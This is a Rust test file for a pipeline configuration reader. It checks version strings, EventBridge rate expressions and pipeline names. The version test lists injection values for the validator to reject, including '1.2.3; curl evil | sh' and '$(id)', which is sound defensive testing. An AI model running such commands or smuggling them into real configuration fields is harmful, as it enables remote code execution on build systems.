//! Reading pipeline.yaml: names, rates, versions.

use super::fields::is_version;
use super::*;

#[test]
fn a_version_is_a_semantic_version_and_nothing_a_shell_would_split() {
    for good in ["0.2.1", "1.0.0-rc.1", "10.20.30+build.5", "1.2.3-alpha-1+x"] {
        assert!(is_version(good), "{good}");
    }
    for bad in [
        "0.2",
        "01.2.3",
        "1.2.3; curl evil | sh",
        "1.2.3 --git https://evil",
        "$(id)",
        "1.2.3-",
        "1.2.3+",
        "latest",
        "",
    ] {
        assert!(!is_version(bad), "{bad}");
    }
}

#[test]
fn every_reads_as_an_eventbridge_rate() {
    assert_eq!(rate("15 minutes").unwrap(), "rate(15 minutes)");
    assert_eq!(rate("1 hours").unwrap(), "rate(1 hour)");
    assert_eq!(rate("2 day").unwrap(), "rate(2 days)");
    assert!(rate("0 minutes").is_err());
    assert!(rate("fortnightly").is_err());
    assert!(rate("3 weeks").is_err());
}

#[test]
fn names_are_what_every_part_of_the_pipeline_accepts() {
    assert!(is_pipeline_name("user-management-release"));
    assert!(!is_pipeline_name("Release"));
    assert!(!is_pipeline_name("release-"));
    assert!(!is_pipeline_name("1release"));
    assert!(!is_pipeline_name(&"a".repeat(MAX_NAME + 1)));
}
